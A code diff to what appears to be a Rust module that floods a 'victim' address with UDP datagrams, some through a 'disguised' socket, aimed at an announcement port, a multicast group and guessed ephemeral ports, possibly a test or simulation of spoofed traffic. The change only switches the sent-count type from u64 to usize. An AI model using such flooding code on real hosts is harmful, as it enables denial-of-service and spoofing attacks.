@@ -2,7 +2,7 @@
 
 use std::net::{Ipv4Addr, SocketAddrV4, UdpSocket};
 use std::sync::Arc;
-use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
+use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
 use std::thread::JoinHandle;
 use std::time::Duration;
 
@@ -32,7 +32,7 @@ pub fn storm(forger: &Host, victim: Ipv4Addr, port: u16) -> Storm {
         [disguised, own]
     });
     let stop = Arc::new(AtomicBool::new(false));
-    let sent = Arc::new(AtomicU64::new(0));
+    let sent = Arc::new(AtomicUsize::new(0));
     let (stopped, count) = (Arc::clone(&stop), Arc::clone(&sent));
     let thread = std::thread::spawn(move || {
         let mut random = Random::new(7);
@@ -50,14 +50,14 @@ pub fn storm(forger: &Host, victim: Ipv4Addr, port: u16) -> Storm {
 #[derive(Debug)]
 pub struct Storm {
     stop: Arc<AtomicBool>,
-    sent: Arc<AtomicU64>,
+    sent: Arc<AtomicUsize>,
     thread: Option<JoinHandle<()>>,
 }
 
 impl Storm {
     /// How many datagrams went out.
     #[must_use]
-    pub fn sent(&self) -> u64 {
+    pub fn sent(&self) -> usize {
         self.sent.load(Ordering::Relaxed)
     }
 }
@@ -70,7 +70,7 @@ impl Drop for Storm {
 }
 
 /// How many of them went out: the victim's host may be down.
-fn send([disguised, own]: &[UdpSocket; 2], random: &mut Random, victim: Ipv4Addr, port: u16) -> u64 {
+fn send([disguised, own]: &[UdpSocket; 2], random: &mut Random, victim: Ipv4Addr, port: u16) -> usize {
     let guessed = 32_768 + u16::try_from(random.below(28_000)).expect("it is small");
     let announcements = SocketAddrV4::new(victim, ANNOUNCEMENT_PORT);
     let group = SocketAddrV4::new(ANNOUNCEMENT_GROUP, ANNOUNCEMENT_PORT);
@@ -80,7 +80,7 @@ fn send([disguised, own]: &[UdpSocket; 2], random: &mut Random, victim: Ipv4Addr
         own.send_to(&datagram(random, port), announcements),
         own.send_to(&datagram(random, port), (victim, guessed)),
     ];
-    sent.iter().filter(|result| result.is_ok()).count() as u64
+    sent.iter().filter(|result| result.is_ok()).count()
 }
 
 fn datagram(random: &mut Random, port: u16) -> Vec<u8> {
@@ -100,5 +100,5 @@ fn datagram(random: &mut Random, port: u16) -> Vec<u8> {
     }
 }
 
-const MOST: u64 = 100_000;
+const MOST: usize = 100_000;
 const BATCH: usize = 5;
